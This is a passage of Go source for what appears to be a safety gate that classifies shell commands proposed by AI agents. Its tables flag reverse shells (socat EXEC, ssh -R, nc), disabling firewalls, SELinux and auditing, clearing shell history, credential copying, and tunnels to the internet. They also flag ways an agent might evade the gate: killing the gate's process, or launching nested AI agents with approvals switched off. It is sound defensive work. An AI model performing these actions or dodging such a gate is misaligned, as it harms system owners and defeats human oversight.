			{"webapp", azAppSettings}, {"functionapp", azAppSettings},
			{"network", &cmdSpec{long: []string{"source-address-prefixes=", "source-address-prefix="},
				opts: []optEffect{{names: []string{"--source-address-prefixes", "--source-address-prefix"}, value: wholeInternet, class: ClassExfiltrate, why: openToInternetWhy}}}},
			{"keyvault", &cmdSpec{subs: subcommands{{"secret", azVaultRead}, {"key", azVaultRead}, {"certificate", azVaultRead}},
				opts: []optEffect{{names: []string{"delete", "purge"}, operand: true, class: ClassDestructive, why: "deletes cloud resources"}}}}},
			opts: []optEffect{{match: cloudDelete, operand: true, class: ClassDestructive, why: "deletes cloud resources"}, sendsCredential, sendsHome}},

		// Security controls.
		"iptables":   {opts: []optEffect{{names: []string{"-F", "--flush", "-X", "--delete-chain", "-P", "--policy"}, effect: EffectPrivilege, class: ClassPrivilege, why: "removes or loosens the machine's firewall rules"}}},
		"ip6tables":  {opts: []optEffect{{names: []string{"-F", "--flush", "-X", "--delete-chain", "-P", "--policy"}, effect: EffectPrivilege, class: ClassPrivilege, why: "removes or loosens the machine's firewall rules"}}},
		"nft":        {shortVal: "fI", opts: []optEffect{{names: []string{"flush", "delete"}, operand: true, effect: EffectPrivilege, class: ClassPrivilege, why: "removes the machine's firewall rules"}, secretConfig("-f", "--file")}},
		"ufw":        {opts: []optEffect{{names: []string{"disable", "reset"}, operand: true, effect: EffectPrivilege, class: ClassPrivilege, why: "turns off the machine's firewall"}}},
		"setenforce": {opts: []optEffect{{names: []string{"0", "Permissive", "permissive"}, operand: true, effect: EffectPrivilege, class: ClassPrivilege, why: "turns off SELinux enforcement"}}},
		"kill": {opts: []optEffect{{names: []string{"-1"}, operand: true, class: ClassDestructive, why: "signals every process the user may signal"},
			{match: parentProcess, operand: true, class: ClassDestructive, why: "signals the process that started this shell (the agent or the gate) or the shell's whole process group"},
			{names: []string{"1"}, operand: true, class: ClassDestructive, why: "signals init, which stops the machine"}}, rare: &rareSpec{dashOperand: killPID}},
		"pkill":   pkillSpec,
		"service": serviceOff,
		// nginx -s stop|quit: the server stops serving (reload and
		// reopen keep it up).
		"nginx": {shortVal: "sgcpe", opts: []optEffect{{names: []string{"-s"}, value: nginxStops, class: ClassDestructive, why: stopsServiceWhy}}},
		// swapoff moves every swapped page back into memory, or fails
		// part way with programs killed for want of it.
		"swapoff": {class: ClassDestructive, why: "turns off swap space, which can leave the machine killing programs for want of memory"},
		"killall": {long: []string{"exact", "ignore-case", "process-group", "interactive", "quiet", "regexp", "signal=", "user=", "verbose", "wait", "older-than=", "younger-than=", "ns="},
			shortVal: "sunoy",
			opts: []optEffect{{match: allProcesses, operand: true, class: ClassDestructive, why: "kills every process"}, stopsNamedGate, killsNamedAgents, killsAccess, killsSecurity,
				{names: []string{"-u", "--user"}, value: anyValue, class: ClassDestructive, why: "kills every process of a user"}}},
		"chattr": {opts: []optEffect{{names: []string{"-i", "-a"}, effect: EffectPrivilege, class: ClassPrivilege, why: "removes the flag that keeps a file from being changed"}}},
		"make":   makeSpec, "gmake": makeSpec,
		// cmake -P runs a CMake script (execute_process runs any program).
		"cmake": {shortVal: "SBCDUGTAP", opts: []optEffect{{names: []string{"-P"}, value: standardInput, class: ClassInlineCode, why: "runs a CMake script given inline on standard input, which no rule can read"}}},
		// rake runs a Rakefile (Ruby) and Ruby given with -e/-p/-E.
		"rake": {probe: true, shortVal: "fCIrReEpgjmPT", long: []string{"rakefile=", "execute=", "execute-print=", "execute-continue=", "libdir=", "require=", "rakelibdir="},
			opts: []optEffect{secretConfig("-f", "--rakefile"),
				{names: []string{"-e", "-p", "-E", "--execute", "--execute-print", "--execute-continue"}, value: anyValue, class: ClassInlineCode, why: "runs Ruby given inline, which no rule can read"}}},
		// Languages given inline to a tool that is no interpreter by name:
		// a Puppet manifest (exec, file resources), TeX source given as the
		// argument (\input, \verbatiminput read any file).
		"puppet": {probe: true, subs: subcommands{{"apply", &cmdSpec{shortVal: "e", long: []string{"execute="},
			opts: []optEffect{{names: []string{"-e", "--execute"}, value: anyValue, class: ClassInlineCode, why: "applies a Puppet manifest given inline, which can run commands and write files"}}}}}},
		"tex": texInline, "latex": texInline, "pdftex": texInline, "pdflatex": texInline, "xelatex": texInline, "lualatex": texInline, "luatex": texInline, "xetex": texInline, "etex": texInline,
		// FreeBSD's and OpenWrt's package managers: a package file.
		"pkg":  {probe: true, subs: subcommands{{"install", &cmdSpec{opts: []optEffect{installsPackageFile}}}, {"add", &cmdSpec{opts: []optEffect{installsPackageFile}}}}},
		"opkg": {probe: true, subs: subcommands{{"install", &cmdSpec{opts: []optEffect{installsPackageFile}}}}},
		"dpkg": {long: []string{"install", "unpack", "force-all", "force-depends", "force-overwrite", "admindir=", "root=", "instdir="},
			opts: []optEffect{{names: []string{"-i", "--install", "--unpack"}, class: ClassSupplyChain, why: "installs a package file; its install scripts run as root"}}},
		"rpm": {long: []string{"install", "upgrade", "freshen", "reinstall", "nodeps", "force", "test", "verbose", "hash", "query", "verify", "root=", "dbpath="},
			opts: []optEffect{{names: []string{"-i", "--install", "-U", "--upgrade", "-F", "--freshen", "--reinstall"}, when: rpmInstalls, class: ClassSupplyChain, why: "installs a package file; its install scripts run as root"}}},
		"snap": {long: []string{"dangerous", "devmode", "classic", "channel=", "edge", "beta", "candidate", "stable", "jailmode"},
			opts: []optEffect{{names: []string{"--dangerous", "--devmode"}, class: ClassSupplyChain, why: "installs an unsigned snap or one without confinement"}}},
		"apt": pkgRemove, "apt-get": pkgRemove, "dnf": pkgRemove, "yum": pkgRemove, "zypper": pkgRemove, "apk": pkgRemove,
		"pacman": {opts: []optEffect{{names: []string{"-R", "--remove"}, class: ClassDestructive, why: "removes system packages"}}, long: []string{"remove", "sync", "query", "upgrade", "database", "files", "deptest"}},
		"twine":  {subs: subcommands{{"upload", publish}}},
		// A package source added to a project's or the user's settings:
		// every later install fetches from it (poetry source add NAME URL,
		// gem sources --add URL, bundle config mirror.X URL).
		"poetry":      {subs: subcommands{{"publish", publish}, {"source", &cmdSpec{opts: []optEffect{{names: []string{"add"}, operand: true, first: true, class: ClassSupplyChain, why: addsSourceWhy}}}}}},
		"flit":        {subs: subcommands{{"publish", publish}}},
		"aa-teardown": {effect: EffectPrivilege, class: ClassPrivilege, why: "unloads every AppArmor profile"},
		"aa-disable":  {effect: EffectPrivilege, class: ClassPrivilege, why: "turns off an AppArmor profile"},
		"aa-complain": {effect: EffectPrivilege, class: ClassPrivilege, why: "stops enforcing an AppArmor profile"},
		"auditctl": {opts: []optEffect{{names: []string{"-D"}, effect: EffectPrivilege, class: ClassPrivilege, why: "deletes every audit rule, turning off auditing"},
			{names: []string{"-e"}, value: isZero, effect: EffectPrivilege, class: ClassPrivilege, why: "turns off auditing"}}, shortVal: "ewWaAkFSdlR"},
		"spctl": {opts: []optEffect{{names: []string{"--master-disable", "--global-disable", "--disable"}, effect: EffectPrivilege, class: ClassPrivilege, why: "turns off Gatekeeper, macOS's check of downloaded programs"},
			{names: []string{"--add"}, effect: EffectPrivilege, class: ClassPrivilege, why: "tells Gatekeeper to let a program run unchecked"}}, long: []string{"master-disable", "global-disable", "disable", "status", "assess", "add", "enable", "master-enable", "label="}},
		"csrutil": {opts: []optEffect{{names: []string{"disable"}, operand: true, effect: EffectPrivilege, class: ClassPrivilege, why: "turns off System Integrity Protection"}}},
		"journalctl": {long: []string{"vacuum-time=", "vacuum-size=", "vacuum-files=", "rotate", "flush", "unit=", "follow", "lines=", "since=", "until="},
			opts: []optEffect{{names: []string{"--vacuum-time", "--vacuum-size", "--vacuum-files"}, prefix: true, class: ClassDestructive, why: "deletes the system journal, the machine's audit trail"}}},
		"history": {opts: []optEffect{{names: []string{"-c"}, class: ClassDestructive, why: "clears the shell history, hiding what ran"},
			{names: []string{"-w", "-d"}, class: ClassDestructive, why: "rewrites the shell history, hiding what ran"}}, rare: &rareSpec{dashOperand: historyOffset}},
		"unset":  {opts: []optEffect{{match: historyVar, operand: true, effect: EffectPrivilege, class: ClassPrivilege, why: "turns off the shell history, a security control that records what runs"}}},
		"export": declSpec, "declare": declSpec, "typeset": declSpec, "readonly": declSpec, "local": declSpec,
		"set":      {opts: []optEffect{{names: []string{"history"}, operand: true, when: setsHistoryOff, effect: EffectPrivilege, class: ClassPrivilege, why: "with +o turns off the shell history, a security control that records what runs"}}},
		"printenv": {opts: []optEffect{{match: secretName, operand: true, class: ClassCredential, why: "prints a secret from the environment"}}},
		"echo":     echoSpec, "printf": echoSpec,
		"sgdisk":   {class: ClassDestructive, why: "rewrites a disk's partition table", rare: &rareSpec{unless: []string{"-p", "--print", "-v", "--verify", "-i", "--info"}}},
		"gdisk":    {class: ClassDestructive, why: "rewrites a disk's partition table", rare: &rareSpec{unless: []string{"-l"}}},
		"cfdisk":   {class: ClassDestructive, why: "rewrites a disk's partition table"},
		"killall5": {class: ClassDestructive, why: "signals every process"},

		// Network: a secret read in the same command may leave the machine.
		"curl": curlFetch(), "wget": wgetFetch(), "http": httpieSpec, "https": httpieSpec, "xh": httpieSpec, "xhs": httpieSpec, "scp": {effect: EffectNetwork, opts: []optEffect{secretConfig("-F"), sendsHome}}, "sftp": {effect: EffectNetwork, opts: []optEffect{secretConfig("-F")}},
		"rsync": {effect: EffectNetwork, long: []string{"delete", "delete-before", "delete-during", "delete-delay", "delete-after", "delete-excluded", "remove-source-files", "archive", "verbose", "recursive", "compress", "dry-run", "exclude=", "include=", "rsh=", "progress", "checksum", "update"}, rare: &rareSpec{dryRun: []string{"-n", "--dry-run"}},
			// --delete on this machine is a delete of files under the
			// destination, judged by where it is (files.go); on another
			// machine, or to a destination known only at run time, a
			// class.
			opts: []optEffect{{names: []string{"--delete", "--delete-before", "--delete-during", "--delete-delay", "--delete-after", "--delete-excluded"}, when: syncsElsewhere, class: ClassDestructive, why: "deletes files that are not in the source"},
				{names: []string{"--remove-source-files"}, class: ClassDestructive, why: "deletes the source files it sent"},
				{match: wholeTree, operand: true, class: ClassCredential, why: "copies the whole home directory, credentials included"},
				{match: credentialPath, operand: true, class: ClassCredential, why: "copies a credential file or directory"},
				{match: holdsCredentials, operand: true, sources: true, class: ClassCredential, why: copiesCredentialsWhy}}}, "nc": ncSpec, "ncat": ncSpec, "netcat": ncSpec,
		"socat": {effect: EffectNetwork, opts: []optEffect{{names: []string{"EXEC:", "SYSTEM:", "exec:", "system:"}, operand: true, prefix: true, effect: EffectRuns, class: ClassExfiltrate, why: "connects a program on this machine to a network peer (a remote shell)"}, sendsCredential}}, "telnet": {effect: EffectNetwork}, "ftp": {effect: EffectNetwork}, "tftp": {effect: EffectNetwork}, "lftp": {effect: EffectNetwork, probe: true, opts: []optEffect{{names: []string{"-c"}, value: clientShell, effect: EffectRuns, class: ClassInlineCode, why: "runs a shell command from the transfer client"}}},
		// smbclient -c runs a transfer script ("put /etc/shadow x").
		"smbclient": {effect: EffectNetwork, probe: true, shortVal: "cAUWOnpI", opts: []optEffect{{names: []string{"-c", "--command"}, value: namesCredential, effect: EffectNetwork, class: ClassExfiltrate, why: "is told to send a credential file"}}},
		"ssh": {effect: EffectNetwork | EffectRuns, opts: []optEffect{{names: []string{"-R"}, class: ClassExfiltrate, why: "opens a reverse tunnel that exposes this machine to the remote side"}, secretConfig("-F"),
			{names: []string{"-D", "-L"}, value: bindsOpenly, class: ClassExfiltrate, why: "opens a forward or a proxy on an address other hosts can reach"},
			{names: []string{"-g"}, class: ClassExfiltrate, why: "lets other hosts connect to the ports it forwards"}}},
		// autossh keeps an ssh connection up and takes ssh's options: its
		// tunnels and forwards are ssh's, restarted whenever they drop.
		"autossh": {effect: EffectNetwork | EffectRuns, shortVal: "MBbcDEeFIiJLlmOoPpQRSWw", opts: []optEffect{{names: []string{"-R"}, class: ClassExfiltrate, why: "opens a reverse tunnel that exposes this machine to the remote side, kept up"}, secretConfig("-F"),
			{names: []string{"-D", "-L"}, value: bindsOpenly, class: ClassExfiltrate, why: "opens a forward or a proxy on an address other hosts can reach"},
			{names: []string{"-g"}, class: ClassExfiltrate, why: "lets other hosts connect to the ports it forwards"}}},
		// Tunnels put a local port on the internet.
		// Reading a whole home directory reads every credential in it.
		"tar": withChdirTree(archiver("CfTXgKLNVbH", false)), "zip": archiver("bntxiT", false), "7z": archiver("", true), "7za": archiver("", true), "rar": archiver("", true),
		// A recursive copy of a directory that holds credential files
		// (~/.config, /etc) copies them along.
		"cp":    {opts: []optEffect{{match: holdsCredentials, operand: true, sources: true, when: copiesTree, class: ClassCredential, why: copiesCredentialsWhy}}},
		"ditto": {opts: []optEffect{{match: holdsCredentials, operand: true, sources: true, class: ClassCredential, why: copiesCredentialsWhy}}},
		// diff -r prints the lines of every file that differs.
		"diff": {opts: []optEffect{{match: holdsCredentials, when: diffRecursive, operand: true, class: ClassCredential, why: "compares a whole directory that holds credential files, printing their lines"}}},
		// kubectl proxy --www serves a local directory; fzf --listen
		// takes actions (execute) from whoever connects; dnsmasq runs
		// its --conf-script.
		"fzf":     {long: []string{"listen=", "listen-unsafe="}, opts: []optEffect{{names: []string{"--listen", "--listen-unsafe"}, effect: EffectRuns, class: ClassExfiltrate, why: "lets whoever reaches its port run commands through its actions"}}},
		"dnsmasq": {probe: true, long: []string{"conf-script=", "dhcp-script=", "conf-file="}, opts: []optEffect{{names: []string{"--conf-script", "--dhcp-script"}, value: anyValue, effect: EffectRuns, class: ClassInlineCode, why: "runs a script it is given as configuration"}}},
		"grep":    homeSearch, "egrep": homeSearch, "fgrep": homeSearch, "rg": homeSearch, "ag": homeSearch, "ack": homeSearch,
		// python -m http.server: serving the workspace is a dev server,
		// serving the home directory or / hands its files to the network.
		"http.server": {long: []string{"directory=", "bind=", "protocol=", "cgi"}, shortVal: "dbp",
			opts: []optEffect{{names: []string{"-d", "--directory"}, value: servesSecrets, class: ClassExfiltrate, why: "serves the home directory, the root or credentials to the network"}}},
		// Other file servers: the directory they serve is an option or
		// their operand (servers.go: the working directory otherwise).
		"php":         {opts: []optEffect{servesDir("-t")}},
		"httpd":       {probe: true, opts: []optEffect{servesDir("-h")}, shortVal: "phcru"},
		"updog":       {probe: true, opts: []optEffect{servesDir("-d", "--directory")}, long: []string{"directory=", "port=", "password=", "ssl"}, shortVal: "dp"},
		"caddy":       {probe: true, subs: subcommands{{"file-server", &cmdSpec{opts: []optEffect{servesDir("--root", "-r")}, long: []string{"root=", "listen=", "domain=", "browse", "templates", "access-log", "debug"}, shortVal: "rld"}}}},
		"twistd":      {probe: true, opts: []optEffect{servesDir("--path")}},
		"http-server": servesOperand("paCKcdeSt"), "serve": servesOperand("lcp"), "live-server": servesOperand(""),
		"miniserve": servesOperand("pigtaiuc"), "darkhttpd": servesOperand(""),
		"dig": dnsLookup, "nslookup": dnsLookup, "host": dnsLookup, "drill": dnsLookup, "ping": dnsLookup, "ping6": dnsLookup, "traceroute": dnsLookup,
		"code": vscode, "code-insiders": vscode, "codium": vscode, "cursor": vscode, "windsurf": vscode,
		// mkdocs gh-deploy pushes the built site; --force and --no-history
		// replace the branch's history on the remote, as git push --force.
		"mkdocs": {subs: subcommands{{"gh-deploy", &cmdSpec{effect: EffectNetwork, long: []string{"remote-branch=", "remote-name=", "message=", "config-file=", "site-dir="}, shortVal: "bmrfd",
			opts: []optEffect{{names: []string{"--force", "--no-history"}, class: ClassDestructive, why: "overwrites the history of the remote branch it deploys to"}}}}}},
		"ngrok":       {effect: EffectNetwork, class: ClassExfiltrate, why: "exposes a local port to the internet", rare: &rareSpec{unless: []string{"version", "help", "--help", "-h", "config"}}},
		"cloudflared": {effect: EffectNetwork, subs: subcommands{{"tunnel", &cmdSpec{class: ClassExfiltrate, why: "exposes a local port to the internet", rare: &rareSpec{unless: []string{"list", "info", "--help"}}}}}},
		// What cuts the machine off the network, or kills what holds a
		// port (fuser -k 22/tcp: sshd).
		"nmcli": {subs: subcommands{{"networking", offSwitch}, {"radio", offSwitch},
			{"connection", &cmdSpec{opts: []optEffect{{names: []string{"down", "delete"}, operand: true, class: ClassDestructive, why: cutsNetwork}}}},
			{"device", &cmdSpec{opts: []optEffect{{names: []string{"disconnect", "down", "delete"}, operand: true, class: ClassDestructive, why: cutsNetwork}}}}}},
		"ip":       {subs: subcommands{{"link", ipDown}, {"l", ipDown}, {"addr", ipFlush}, {"address", ipFlush}, {"a", ipFlush}, {"route", ipFlush}, {"r", ipFlush}}},
		"ifconfig": {opts: []optEffect{{names: []string{"down"}, operand: true, class: ClassDestructive, why: cutsNetwork}}},
		"ifdown":   {class: ClassDestructive, why: cutsNetwork, rare: &rareSpec{unless: []string{"--help", "-h", "-n", "--no-act"}}},
		"fuser": {opts: []optEffect{{match: fuserSystemTarget, operand: true, when: fuserKills, class: ClassDestructive,
			why: "kills every process that uses a system port or a file, which may be pid 1 (a socket systemd holds) or a service"}}},
		// Ansible roles and collections from a URL or git remote run as
		// the playbooks that use them.
		"ansible-galaxy": {probe: true, opts: []optEffect{{match: remotePackage, operand: true, when: galaxyInstalls, class: ClassSupplyChain, why: "installs a role or collection straight from a URL or git remote"}}},
		// ps in BSD form with e prints every process's environment.
		"ps": {shortVal: "opuUgGtCOqsNk", long: []string{"format=", "sort=", "pid=", "ppid=", "user=", "User=", "group=", "Group=", "tty=", "cols=", "columns=", "rows=", "sid=", "quick-pid="},
			opts: []optEffect{{match: psEnviron, operand: true, class: ClassCredential, why: "prints the environment of every process, where tokens and passwords are passed"}}},
		// A user's services kept running from boot, logged in or not.
		"loginctl": {opts: []optEffect{{names: []string{"enable-linger"}, operand: true, class: ClassPersistence, why: "keeps the user's services running from boot, whether the user is logged in or not"}}},
		// SQL given to a hosted database's CLI.
		"wrangler": {probe: true, subs: subcommands{{"d1", &cmdSpec{subs: subcommands{{"execute", &cmdSpec{long: []string{"command=", "file=", "local", "remote", "yes"}, opts: []optEffect{sqlValue("--command")}}}}}}}},
		"turso":    {probe: true, subs: subcommands{{"db", &cmdSpec{subs: subcommands{{"shell", &cmdSpec{opts: []optEffect{sqlOperand}}}}}}}},
		// Service CLIs that print their keys: Supabase's project API keys
		// (the service_role key passes row-level security), Stripe's
		// configured API keys.
		"supabase": {probe: true, subs: subcommands{{"projects", &cmdSpec{opts: []optEffect{{names: []string{"api-keys"}, operand: true, first: true, class: ClassCredential, why: "prints a Supabase project's API keys, the service role's among them"}}}}}},
		"stripe":   {probe: true, subs: subcommands{{"config", &cmdSpec{opts: []optEffect{{names: []string{"--list"}, class: ClassCredential, why: "prints the Stripe API keys the CLI holds"}}}}}},
		// firebase's verbs that delete data or take a site down.
		"firebase": {opts: []optEffect{{names: []string{"login:ci"}, operand: true, first: true, class: ClassCredential, why: "makes and prints a long-lived Firebase token"},
			{names: []string{"hosting:disable", "functions:delete", "firestore:delete", "database:remove",
				"hosting:channel:delete", "hosting:sites:delete", "apps:delete", "ext:uninstall", "remoteconfig:rollback"}, operand: true,
				class: ClassDestructive, why: "deletes data or functions in Firebase, or takes a site down"}}},
		// Other tunnels that put a local port on the internet.
		"lt": tunnel, "localtunnel": tunnel, "frpc": tunnel,
		"bore":      {effect: EffectNetwork, subs: subcommands{{"local", tunnel}}},
		"zrok":      {effect: EffectNetwork, subs: subcommands{{"share", tunnel}}},
		"tailscale": {effect: EffectNetwork, subs: subcommands{{"funnel", &cmdSpec{class: ClassExfiltrate, why: "exposes a local port or directory to the internet", rare: &rareSpec{unless: []string{"status", "reset", "--help", "-h"}}}}}},
		"rclone": {effect: EffectNetwork, long: []string{"dry-run", "interactive"}, rare: &rareSpec{dryRun: []string{"-n", "--dry-run"}}, opts: []optEffect{{names: []string{"purge", "delete", "deletefile", "rmdir", "rmdirs", "sync", "cleanup", "dedupe"}, operand: true, class: ClassDestructive, why: "deletes remote files"},
			{names: []string{"move", "moveto"}, operand: true, class: ClassDestructive, why: "moves files away from the source, deleting them there"},
			{match: credentialPath, operand: true, class: ClassCredential, why: "uploads a credential file or directory"}, sendsHome},
			subs: subcommands{{"serve", &cmdSpec{effect: EffectNetwork, probe: true, opts: []optEffect{servesOperandEffect}}}}}, "aria2c": {effect: EffectNetwork}, "mail": uploader, "mailx": uploader,
		"sendmail": {effect: EffectNetwork}, "mutt": uploader, "swaks": uploader, "openssl": {effect: EffectNetwork},
		// AI agents started with their approvals off: every tool call the
		// nested agent decides on runs unvetted, the agent's way around
		// the gate. Their names as npm packages too, scoped (npx
		// @openai/codex) and as a path's last element reads them.
		"claude": agentClaude, "@anthropic-ai/claude-code": agentClaude, "claude-code": agentClaude,
		"codex": agentCodex, "@openai/codex": agentCodex,
		"gemini": agentGemini, "@google/gemini-cli": agentGemini, "gemini-cli": agentGemini,
		"qwen": agentGemini, "@qwen-code/qwen-code": agentGemini, "qwen-code": agentGemini,
		"copilot": agentCopilot, "@github/copilot": agentCopilot,
		"aider": agentAider, "aider-chat": agentAider,
		"cursor-agent": agentCursor,
		"amp":          agentAmp, "@sourcegraph/amp": agentAmp,
		"crush": agentCrush, "@charmland/crush": agentCrush,
		"droid":    agentDroid,
		"kiro-cli": agentTrustAll, "q": agentTrustAll,
	}
}

// The AI agents' switches that turn their approvals off (riskCommands).
// Only the switches count: the same agent asking before it acts (claude
// -p, codex exec, gemini -p) stays an unknown program.
var (
	agentClaude = &cmdSpec{probe: true, long: []string{"dangerously-skip-permissions", "permission-mode=", "model=", "print", "output-format=", "input-format=",
		"allowedTools=", "allowed-tools=", "disallowedTools=", "disallowed-tools=", "append-system-prompt=", "system-prompt=", "settings=", "mcp-config=", "add-dir=",
		"continue", "resume=", "session-id=", "fallback-model=", "max-turns=", "verbose", "debug", "version", "help"}, shortVal: "r",
		opts: []optEffect{{names: []string{"--dangerously-skip-permissions"}, class: ClassTampering, why: approvalsOffWhy},
			{names: []string{"--permission-mode", "--settings"}, value: bypassesPermissions, class: ClassTampering, why: approvalsOffWhy}},
		subs: subcommands{{"mcp", &cmdSpec{opts: []optEffect{{names: []string{"add", "add-json", "add-from-claude-desktop", "remove", "reset-project-choices"}, operand: true, first: true, class: ClassTampering, why: agentConfigWhy}}}},
			{"config", &cmdSpec{opts: []optEffect{{names: []string{"set", "add", "remove"}, operand: true, first: true, class: ClassTampering, why: agentConfigWhy}}}},
			{"plugin", &cmdSpec{opts: []optEffect{{names: []string{"install", "i", "uninstall", "enable", "disable"}, operand: true, first: true, class: ClassTampering, why: agentConfigWhy}},
				subs: subcommands{{"marketplace", &cmdSpec{opts: []optEffect{{names: []string{"add", "remove", "rm", "update"}, operand: true, first: true, class: ClassTampering, why: agentConfigWhy}}}}}}}}}
	agentCodex = &cmdSpec{probe: true, long: []string{"dangerously-bypass-approvals-and-sandbox", "yolo", "sandbox=", "ask-for-approval=", "config=", "model=",
		"profile=", "cd=", "image=", "full-auto", "oss", "search", "json", "output-last-message=", "skip-git-repo-check", "version", "help"}, shortVal: "sacmpCio",
		opts: []optEffect{{names: []string{"--dangerously-bypass-approvals-and-sandbox", "--yolo"}, class: ClassTampering, why: approvalsOffWhy},
			{names: []string{"--sandbox", "-s", "--config", "-c"}, value: fullAccess, class: ClassTampering, why: approvalsOffWhy}},
		subs: subcommands{{"mcp", &cmdSpec{opts: []optEffect{{names: []string{"add", "remove"}, operand: true, first: true, class: ClassTampering, why: agentConfigWhy}}}}}}
	agentGemini = &cmdSpec{probe: true, long: []string{"yolo", "approval-mode=", "prompt=", "prompt-interactive=", "model=", "sandbox", "all-files", "debug",
		"include-directories=", "allowed-tools=", "allowed-mcp-server-names=", "extensions=", "output-format=", "checkpointing", "version", "help"}, shortVal: "pime",
		opts: []optEffect{{names: []string{"--yolo", "-y"}, class: ClassTampering, why: approvalsOffWhy},
			{names: []string{"--approval-mode"}, value: yoloMode, class: ClassTampering, why: approvalsOffWhy}},
		subs: subcommands{{"mcp", &cmdSpec{opts: []optEffect{{names: []string{"add", "remove"}, operand: true, first: true, class: ClassTampering, why: agentConfigWhy}}}},
			{"extensions", &cmdSpec{opts: []optEffect{{names: []string{"install", "uninstall", "link", "enable", "disable", "update"}, operand: true, first: true, class: ClassTampering, why: agentConfigWhy}}}}}}
	agentCopilot = &cmdSpec{probe: true, long: []string{"allow-all-tools", "allow-all-paths", "allow-all", "yolo", "allow-tool=", "deny-tool=", "prompt=", "model=",
		"add-dir=", "resume=", "continue", "log-level=", "version", "help"}, shortVal: "p",
		opts: []optEffect{{names: []string{"--allow-all-tools", "--allow-all", "--yolo"}, class: ClassTampering, why: approvalsOffWhy}}}
	agentAider = &cmdSpec{probe: true, long: []string{"yes-always", "message=", "message-file=", "model=", "file=", "read=", "auto-commits", "no-auto-commits",
		"dry-run", "test-cmd=", "lint-cmd=", "auto-test", "version", "help"}, shortVal: "mf",
		opts: []optEffect{{names: []string{"--yes-always"}, class: ClassTampering, why: approvalsOffWhy}}}
	agentCursor = &cmdSpec{probe: true, long: []string{"force", "print", "output-format=", "model=", "resume=", "api-key=", "version", "help"},
		opts: []optEffect{{names: []string{"--force", "-f"}, class: ClassTampering, why: approvalsOffWhy}}}
	agentAmp = &cmdSpec{probe: true, long: []string{"dangerously-allow-all", "execute=", "settings-file=", "mode=", "version", "help"}, shortVal: "xm",
		opts: []optEffect{{names: []string{"--dangerously-allow-all"}, class: ClassTampering, why: approvalsOffWhy}},
		subs: subcommands{{"mcp", &cmdSpec{opts: []optEffect{{names: []string{"add", "remove"}, operand: true, first: true, class: ClassTampering, why: agentConfigWhy}}}}}}
	agentCrush = &cmdSpec{probe: true, long: []string{"yolo", "cwd=", "debug", "version", "help"}, shortVal: "c",
		opts: []optEffect{{names: []string{"--yolo", "-y"}, class: ClassTampering, why: approvalsOffWhy}}}
	agentDroid = &cmdSpec{probe: true, long: []string{"skip-permissions-unsafe", "auto=", "model=", "file=", "cwd=", "output-format=", "version", "help"}, shortVal: "mfo",
		opts: []optEffect{{names: []string{"--skip-permissions-unsafe"}, class: ClassTampering, why: approvalsOffWhy}}}
	agentTrustAll = &cmdSpec{probe: true, opts: []optEffect{{names: []string{"--trust-all-tools"}, class: ClassTampering, why: approvalsOffWhy}}}
)

// The reasons of the agents' switches and configuration commands above.
const (
	approvalsOffWhy = "starts an AI agent with its approvals switched off, so the tool calls it makes run without anyone vetting them"
	agentConfigWhy  = "changes an AI agent's configuration (its MCP servers, settings, plugins or extensions), as writing its settings file would"
)

// The reasons shared by the exposures of a repository or a cloud network,
// by gh's deletes, and by the copies of a directory above credentials.
const (
	copiesCredentialsWhy = "copies a directory that holds credential files, and them with it"
	ghDeleteWhy          = "deletes it on GitHub, where it does not come back"
	makesPublicWhy       = "makes a repository public: its code and whole history readable by anyone"
	openToInternetWhy    = "opens a cloud network's port to the whole internet"
)

// isPublic: the value public (gh repo edit --visibility public).
func isPublic(v string) bool { return strings.EqualFold(v, "public") }

// publicField: a GitHub API field that makes a repository public
// (gh api -X PATCH repos/O/R -f private=false).
func publicField(v string) bool {
	k, val, _ := strings.Cut(strings.ToLower(v), "=")
	return k == "private" && val == "false" || k == "visibility" && val == "public"
}

// grantsEndpoint: a GitHub API path that, sent a PUT, gives an account
// access (repos/O/R/collaborators/U, orgs/O/memberships/U).
func grantsEndpoint(a string) bool {
	a = strings.ToLower(a)
	return strings.Contains(a, "/collaborators/") || strings.Contains(a, "/memberships/") || strings.Contains(a, "/outside_collaborators/")
}

// httpPut reports whether gh api's arguments set the method PUT.
func httpPut(args []string) bool {
	for i, a := range args {
		switch {
		case (a == "-X" || a == "--method") && i+1 < len(args):
			if strings.EqualFold(args[i+1], "PUT") {
				return true
			}
		case strings.HasPrefix(a, "-X") && strings.EqualFold(a[2:], "PUT"), strings.HasPrefix(a, "--method=") && strings.EqualFold(a[9:], "PUT"):
			return true
		}
	}
	return false
}

// addsForeignKey reports whether gh ssh-key add's key is not one of the
// user's own, kept in ~/.ssh: a key from anywhere else, or from standard
// input, may be someone else's.
func addsForeignKey(args []string) bool {
	ops := 0
	for i := 1; i < len(args); i++ {
		switch a := args[i]; {
		case a == "-t" || a == "--title" || a == "--type":
			i++ // its value
		case strings.HasPrefix(a, "-") && a != "-":
		default:
			ops++
			own := strings.HasPrefix(a, "~/.ssh/") || strings.HasPrefix(a, "$HOME/.ssh/") || strings.HasPrefix(a, "${HOME}/.ssh/")
			if !own || strings.Contains(a, "..") {
				return true
			}
		}
	}
	return ops == 0
}

// keyedCredential: kubectl's --from-file value, KEY=PATH or PATH, naming
// a credential file.
func keyedCredential(v string) bool {
	if _, p, ok := strings.Cut(v, "="); ok {
		v = p
	}
	return credentialPath(v)
}

// suspends: a setting that suspends (Status=Suspended, or its JSON form).
func suspends(v string) bool { return strings.Contains(strings.ToLower(v), "suspended") }

// turnsOff: a setting list that turns one of its switches off
// (BlockPublicAcls=false,…, or its JSON form).
func turnsOff(v string) bool {
	v = strings.ReplaceAll(strings.ToLower(v), " ", "")
	return strings.Contains(v, "=false") || strings.Contains(v, ":false")
}

// wholeInternet: a source address range that is every address: 0.0.0.0/0
// or ::/0 (also inside a list or aws's --ip-permissions), and Azure's
// "*", "Internet" and "Any".
func wholeInternet(v string) bool {
	switch strings.ToLower(strings.Trim(v, `"'`)) {
	case "*", "internet", "any":
		return true
	}
	return strings.Contains(v, "0.0.0.0/0") || strings.Contains(v, "::/0")
}

// diskutilErases: a diskutil verb that erases, repartitions or deletes
// (eraseDisk, zeroDisk, partitionDisk, apfs deleteContainer), in any
// letter case.
func diskutilErases(a string) bool {
	a = strings.ToLower(a)
	return strings.HasPrefix(a, "erase") || strings.HasPrefix(a, "delete") || strings.HasPrefix(a, "partition") ||
		strings.HasPrefix(a, "split") || strings.HasPrefix(a, "merge") ||
		a == "zerodisk" || a == "randomdisk" || a == "secureerase" || a == "reformat" || a == "resizevolume"
}

// bypassesPermissions: Claude Code's permission mode that asks for
// nothing, given as the mode or inside settings (--settings
